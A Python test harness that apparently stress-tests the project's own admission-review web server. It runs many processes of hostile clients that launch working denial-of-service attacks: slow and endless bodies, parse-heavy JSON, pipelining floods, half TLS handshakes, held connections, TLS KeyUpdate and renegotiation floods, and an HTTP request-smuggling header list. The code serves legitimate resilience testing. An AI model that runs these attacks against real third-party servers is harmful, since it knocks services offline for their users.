"""Clients that mean harm: some of each kind at once, each a process, for as long as a test or benchmark wants.

python -m tests.serving.attacks HOST PORT KIND CLIENTS PER_CLIENT attacks a server until its standard input ends.
"""

import ctypes
import ctypes.util
import multiprocessing
import random
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress

MIB = 1024 * 1024
POST = b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
# OpenSSL's numbers of versions.
TLS_1_2, TLS_1_3 = 0x0303, 0x0304
_CONTEXT = ssl._create_unverified_context()  # the server under test is our own
# What is sent half of by those that never finish a handshake: the beginning of a ClientHello.
_HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00"

Address = tuple[str, int]
Attack = Callable[[Address, int], None]


def tcp(server: Address, timeout: float = 60.0) -> socket.socket:
    return socket.create_connection(server, timeout)


def tls(server: Address, timeout: float = 60.0) -> ssl.SSLSocket:
    return _CONTEXT.wrap_socket(tcp(server, timeout))


def sized(body: bytes) -> bytes:
    return POST + b"Content-Length: %d\r\n\r\n" % len(body) + body


def dear_review(size: int) -> bytes:
    """A review that takes long to read: an object of very many small lists that asks for something."""
    start = (
        b'{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u","kind":'
        b'{"kind":"PipelineRun"},"operation":"CREATE","namespace":"n","object":{"apiVersion":"tekton.dev/v1",'
        b'"kind":"PipelineRun","metadata":{"name":"a","annotations":{"extensions.fuseml.org/run-selectors":"{}"}},'
        b'"spec":{"x":['
    )
    end = b"0]}}}}"
    return start + b"[[]]," * ((size - len(start) - len(end)) // 5) + end


def _read_for_ever(sock: socket.socket) -> None:
    while sock.recv(65536):
        pass


def _again_and_again(server: Address, request: bytes) -> None:
    """Send *request* again when it was answered."""
    with tls(server) as sock:
        while True:
            sock.sendall(request)
            if not sock.recv(65536):
                return


def _hold(server: Address, count: int, opened: Callable[[Address], socket.socket]) -> None:
    """Keep *count* connections, and open another one for each that the server closes."""
    held = []
    while True:
        while len(held) < count:
            with suppress(OSError):
                held.append(opened(server))
        time.sleep(0.02)
        for sock in tuple(held):
            sock.setblocking(False)
            with suppress(BlockingIOError, ssl.SSLWantReadError):
                try:
                    over = not sock.recv(4096)
                except ConnectionError:
                    over = True
                if over:
                    held.remove(sock)
                    sock.close()


def large_reviews(server: Address, per_client: int) -> None:
    """Reviews as large as they may be, and as dear."""
    _again_and_again(server, sized(dear_review(7 * MIB - 8192)))


def large_mappings(server: Address, per_client: int) -> None:
    """The dearest of all that is read: mappings of very many keys."""
    keys = b",".join(b'"%x":0' % n for n in range(640_000))
    _again_and_again(server, sized(dear_review(0).replace(b'"x":[0]', b'"x":{%s}' % keys)))


def overload(server: Address, per_client: int) -> None:
    """All but one fill the server with large bodies, and one sends what is put off because of that."""
    if multiprocessing.current_process().name.endswith("-1"):
        pipelined(server, per_client)
    else:
        _again_and_again(server, sized(b" " * (7 * MIB - 8192)))


def middling_reviews(server: Address, per_client: int) -> None:
    """Reviews that just count as light."""
    _again_and_again(server, sized(dear_review(256 * 1024)))


def unfinished_bodies(server: Address, per_client: int) -> None:
    """All of a large body but its end, then the next."""
    with tls(server) as sock:
        sock.sendall(sized(b" " * 7 * MIB)[:-1])
        time.sleep(0.1)


def endless_bodies(server: Address, per_client: int) -> None:
    """Chunks for as long as the server takes them, whatever it says."""
    with tls(server) as sock:
        sock.sendall(POST + b"Transfer-Encoding: chunked\r\n\r\n")
        while True:
            sock.sendall(b"4000\r\n" + b"x" * 0x4000 + b"\r\n")


def chunked_trickle(server: Address, per_client: int) -> None:
    """Small chunks, one after the other."""
    with tls(server) as sock:
        sock.sendall(POST + b"Transfer-Encoding: chunked\r\n\r\n")
        while True:
            sock.sendall(b"1\r\nx\r\n")


def pipelined(server: Address, per_client: int, request: bytes = sized(b" " * 1024)) -> None:
    """Requests without waiting for answers, all of which are read."""
    block = request * 200
    with tls(server) as sock:
        while True:
            sock.sendall(block)
            left = 200
            while left > 0:
                if not (got := sock.recv(MIB)):
                    return
                left -= got.count(b"HTTP/1.1 ")


def pipelined_probes(server: Address, per_client: int) -> None:
    """The same without bodies."""
    pipelined(server, per_client, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")


def untaken_answers(server: Address, per_client: int) -> None:
    """Requests without reading any answer."""
    with tls(server) as sock:
        sock.settimeout(2)
        while True:
            sock.sendall(sized(b" " * 1024) * 100)


def half_handshakes(server: Address, per_client: int) -> None:
    """Connections that stop in their first message."""

    def opened(server: Address) -> socket.socket:
        sock = tcp(server)
        sock.sendall(_HALF_HELLO)
        return sock

    _hold(server, per_client, opened)


def idle_connections(server: Address, per_client: int) -> None:
    """Connections that stay after their handshake."""
    _hold(server, per_client, tls)


def used_connections(server: Address, per_client: int) -> None:
    """Connections that have had an answer, so that they seem to be somebody's, and stay."""

    def opened(server: Address) -> socket.socket:
        sock = tls(server)
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        sock.recv(4096)
        return sock

    _hold(server, per_client, opened)


def handshakes(server: Address, per_client: int) -> None:
    """One handshake after the other."""
    tls(server).close()


def connections(server: Address, per_client: int) -> None:
    """Connections that are closed at once, half of them by a reset."""
    for linger in (struct.pack("ii", 0, 0), struct.pack("ii", 1, 0)):
        with tcp(server) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


def slow_bytes(server: Address, per_client: int) -> None:
    """A byte of a head now and then, on many connections."""
    socks = [tls(server) for _ in range(per_client)]
    try:
        while True:
            for sock in socks:
                sock.sendall(b"x")
                time.sleep(0.0005)
    finally:
        for sock in socks:
            sock.close()


def byte_by_byte(server: Address, per_client: int) -> None:
    """A body in as many records as it has bytes."""
    with tls(server) as sock:
        sock.sendall(POST + b"Content-Length: 1000000\r\n\r\n")
        while True:
            sock.sendall(b"x")


def garbage(server: Address, per_client: int) -> None:
    """Bytes without meaning, before and within TLS."""
    with tcp(server) as sock:
        sock.sendall(random.randbytes(20_000))
    with tls(server) as sock:
        sock.sendall(random.randbytes(20_000))
        _read_for_ever(sock)


def sending_on(server: Address, per_client: int) -> None:
    """What is no request, and then as much as is thrown away."""
    with tls(server) as sock:
        sock.sendall(b"NONSENSE\r\n\r\n")
        while True:
            sock.sendall(b"x" * 16384)


def early_close(server: Address, per_client: int) -> None:
    """A request whose answer is not waited for: the connection is reset."""
    with tls(server) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.sendall(sized(b"{}"))


SMUGGLED = [
    b"Content-Length: 5\r\nContent-Length: 6\r\n",
    b"Content-Length: 5, 5\r\n",
    b"Content-Length: +5\r\n",
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked, identity\r\n",
    b"Transfer-Encoding: xchunked\r\n",
    b"Transfer-Encoding : chunked\r\n",
    b"Content-Length: 99999999999999999999\r\n",
]


def smuggled_lengths(server: Address, per_client: int) -> None:
    """Two lengths of one body, so that a part of it might pass for a request of its own."""
    for lengths in SMUGGLED:
        with tls(server) as sock:
            sock.sendall(POST + lengths + b"\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            with suppress(ConnectionError):
                _read_for_ever(sock)


class OpenSsl:
    """A client's connection by OpenSSL itself: Python offers neither KeyUpdates nor renegotiation."""

    def __init__(self, sock: socket.socket, version: int) -> None:
        lib = self.lib = ctypes.CDLL(ctypes.util.find_library("ssl") or "libssl.so.3")
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(lib, name).restype = ctypes.c_void_p
        self.sock = sock
        self.sock.setblocking(True)
        context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
        lib.SSL_CTX_ctrl(context, 124, ctypes.c_long(version), None)  # SSL_CTRL_SET_MAX_PROTO_VERSION
        self.tls = ctypes.c_void_p(lib.SSL_new(context))
        lib.SSL_CTX_free(context)
        lib.SSL_set_fd(self.tls, self.sock.fileno())
        self.check(lib.SSL_connect(self.tls))

    def update_key(self) -> None:
        self.check(self.lib.SSL_key_update(self.tls, 0))
        self.check(self.lib.SSL_do_handshake(self.tls))

    def renegotiate(self) -> None:
        self.check(self.lib.SSL_renegotiate(self.tls))
        self.check(self.lib.SSL_do_handshake(self.tls))

    def check(self, result: int) -> None:
        if result != 1:
            raise OSError("the connection ended")

    def close(self) -> None:
        self.lib.SSL_free(self.tls)
        self.sock.close()


def key_updates(server: Address, per_client: int) -> None:
    """Keys of TLS 1.3 that change again and again, and nothing else."""
    client = OpenSsl(tcp(server), TLS_1_3)
    try:
        while True:
            client.update_key()
    finally:
        client.close()


def renegotiation(server: Address, per_client: int) -> None:
    """Handshakes of TLS 1.2 that begin again."""
    client = OpenSsl(tcp(server), TLS_1_2)
    try:
        while True:
            client.renegotiate()
    finally:
        client.close()


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        large_reviews,
        large_mappings,
        overload,
        middling_reviews,
        unfinished_bodies,
        endless_bodies,
        chunked_trickle,
        pipelined,
        pipelined_probes,
        untaken_answers,
        half_handshakes,
        idle_connections,
        used_connections,
        handshakes,
        connections,
        slow_bytes,
        byte_by_byte,
        garbage,
        sending_on,
        early_close,
        smuggled_lengths,
        key_updates,
        renegotiation,
    )
}


def _repeat(attack: Attack, server: Address, per_client: int) -> None:
    while True:
        try:
            attack(server, per_client)
        except OSError:
            time.sleep(0.002)


def main(host: str, port: int, kind: str, clients: int, per_client: int) -> None:
    attack = ATTACKS[kind]
    processes = [
        multiprocessing.Process(target=_repeat, args=(attack, (host, port), per_client), daemon=True)
        for _ in range(clients)
    ]
    for process in processes:
        process.start()
    sys.stdin.read()
    for process in processes:
        process.kill()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], *map(int, sys.argv[4:]))
